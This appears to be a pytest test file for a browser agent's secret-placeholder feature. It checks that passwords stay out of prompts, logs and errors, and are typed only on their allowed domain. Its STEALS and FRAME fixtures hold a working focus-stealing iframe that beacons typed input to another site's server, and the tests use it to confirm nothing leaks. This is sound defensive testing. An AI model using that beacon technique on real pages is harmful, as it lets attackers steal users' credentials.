"""`{{secret:NAME}}`: the browser server types the secret; no one else sees it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote_plus

import pytest
from pages_site import ElementActions, browser_settings, serve
from scripted_agents import code

from ck_pro import Journal
from ck_pro.approval import Decision, describe
from ck_pro.exceptions import BrowserServerError, ConfigError
from ck_pro.language import text_of
from ck_pro.session import Status
from ck_pro.testing import ScriptedLLM
from ck_web import ComputerAgent, WebAgent, WebEnv, WebEnvConfig

pytestmark = pytest.mark.browser

VALUE = "correct horse 'battery' & staple"
TYPED = "{{secret:shop}}"
LOGIN = """<!doctype html><title>Login</title><form action="/secret-in">
  <input aria-label="User" name="u"><input aria-label="Password" type="password" name="p">
  <input aria-label="Amount" type="number" name="n"><button>Log in</button></form>"""
STEALS = """<!doctype html><title>Steals</title>
  <input aria-label="User" oninput="document.querySelector('iframe').focus()">
  <iframe src="FRAME"></iframe>"""
FRAME = """<input aria-label="Other" autofocus onfocus="said('focus')"
  oninput="said(this.value)"><script>
  const said = (what) => new Image().src = '/heard?' + encodeURIComponent(what);
  addEventListener('focus', () => document.querySelector('input').focus());</script>"""


@pytest.fixture
def heard() -> list[str]:
    """What the server of the other site received."""
    return []


@pytest.fixture
def sites(heard: list[str]) -> Iterator[tuple[str, str]]:
    """The shop and another site."""

    def hear(path: str) -> str:
        heard.append(unquote_plus(path.partition("?")[2]))
        return ""

    with serve({"/secret-frame": FRAME, "/heard": hear}) as other:
        steals = STEALS.replace("FRAME", f"{other}/secret-frame")
        pages: dict[str, Any] = {"/secret-login": LOGIN, "/secret-steals": steals}
        pages["/secret-in"] = lambda path: f"<title>In</title><p>Hello {unquote_plus(path)}</p>"
        with serve(pages) as shop:
            yield shop, other


def settings(shop: str, **more: Any) -> dict[str, Any]:
    domain = shop.removeprefix("http://")
    secrets = {"shop": {"value": VALUE, "domains": [domain]}}
    return browser_settings(secrets=secrets, target_url=f"{shop}/secret-login", **more)


def test_a_run_logs_in_without_the_secret_in_prompts_journal_or_row(
    sites: tuple[str, str], tmp_path: Path
) -> None:
    reviewed: list[str] = []

    class Approver:
        def review(self, action: Any) -> Decision:
            reviewed.append(describe(action))
            return Decision()

    steps = [
        f"type(3, '{TYPED}', enter=False); type('Password', '{TYPED}', enter=False)",
        "print(click('Log in'))",
        "stop(read())",
    ]
    agent = WebAgent(
        model=ScriptedLLM([code(step) for step in steps]),
        planning="off",
        approver=Approver(),
        web_env=settings(sites[0]),
    )
    with Journal(tmp_path / "j") as journal:
        session = agent.run("Log in", journal=journal, workdir=tmp_path / "w")
    assert session.status is Status.DONE, session.message
    assert session.final_results["output"].count(TYPED) == 2, "the shop did not get the secret"
    assert any(TYPED in line for line in reviewed)
    prompts = "".join(text_of(m["content"]) for c in agent.model.calls for m in c.messages)
    assert f"the browser fills in the secrets: {TYPED}" in prompts
    kept = [p.read_bytes() for p in (tmp_path / "j").rglob("*") if p.is_file()]
    everything = [prompts, *reviewed, json.dumps(session.to_dict())]
    for part in ("correct horse", "correct+horse", "correct%20horse", "staple"):
        assert not any(part in text for text in everything), part
        assert not any(part.encode() in data for data in kept), part


def test_a_secret_is_typed_only_on_its_domain(
    sites: tuple[str, str], heard: list[str], tmp_path: Path
) -> None:
    shop, other = sites
    env = WebEnv(settings(shop), workdir=tmp_path, target_url=f"{other}/secret-frame")
    try:
        refused = typed(env, "textbox .Other")
        assert "may be typed only on" in refused and "nothing was typed" in refused
        assert "no secret is named 'x'" in typed(env, "textbox .Other", "{{secret:x}}")
        assert "fills in the secrets" not in env.observe().text
        env.step_state(f"goto {shop}/secret-steals")
        inside = typed(env, "textbox .Other")
        assert "may be typed only on" in inside, "a frame of another site got the secret"
        stolen = typed(env, "textbox .User")
        assert "may be typed only on" in stolen or "lost the focus" in stolen
        assert set(heard) <= {"", "focus"}
    finally:
        env.close()


def test_replies_and_errors_show_the_name_of_a_secret(
    sites: tuple[str, str], tmp_path: Path
) -> None:
    env = WebEnv(settings(sites[0]), workdir=tmp_path)
    try:
        assert TYPED in typed(env, "textbox .User")
        assert f"textbox 'User' value: {TYPED}" in env.observe().text
        failed = typed(env, "spinbutton .Amount")
        assert "takes a number" in failed and "horse" not in failed
        env.config.evaluate = True  # a client cannot switch it on again
        assert "off in a browser with secrets" in env.step_state("evaluate document.title")
    finally:
        env.close()


def typed(env: WebEnv, field: str, text: str = TYPED) -> str:
    """Type into a field; return the result or the reason of the failure."""
    return env.step_state(f"type [{ElementActions(env).id(field)}] {text}[NOENTER]")


def test_the_computer_agent_types_a_secret_at_the_focus(
    sites: tuple[str, str], tmp_path: Path
) -> None:
    steps = [
        "computer('click', x=60, y=18)",
        f"computer('type', text='{TYPED}\\n')",
        "stop('done')",
    ]
    agent = ComputerAgent(
        model=ScriptedLLM([code(step) for step in steps]),
        language="code",
        web_env=settings(sites[0]),
    )
    session = agent.run("Log in", workdir=tmp_path)
    assert session.status is Status.DONE, session.message
    url = session.steps[-1]["action"]["web_state_before"]["step_url"]
    assert url.endswith(f"?u={TYPED}&p=&n="), url


@pytest.mark.parametrize(
    ("secrets", "message"),
    [
        ({"a b": {"env": "X", "domains": ["x"]}}, "not a name"),
        ({"a": {"env": "X"}}, "secrets.a.domains: Field required"),
        ({"a": {"env": "X", "value": "hunter2", "domains": ["x"]}}, "either env or value"),
        ({"a": {"value": "x1", "domains": ["x"]}}, "at least 4 characters"),
        ({"a": {"valu": "hunter2", "env": "X", "domains": ["x"]}}, "secrets.a.valu"),
    ],
)
def test_an_invalid_secret_is_reported_without_its_value(
    secrets: dict[str, Any], message: str
) -> None:
    with pytest.raises(ConfigError, match=message) as e:
        WebEnvConfig(secrets=secrets)
    assert "hunter2" not in str(e.value)


def test_settings_are_written_without_values() -> None:
    config = WebEnvConfig(secrets={"a": {"value": "hunter2", "domains": ["x.example"]}})
    assert config.to_dict()["secrets"] == {"a": {"domains": ["x.example"]}}
    assert not config.evaluate
    config = WebEnvConfig(secrets={"a": {"env": "NOT_SET_ANYWHERE", "domains": ["x.example"]}})
    with pytest.raises(BrowserServerError, match="set the environment variable NOT_SET_ANYWHERE"):
        config.secret_values()
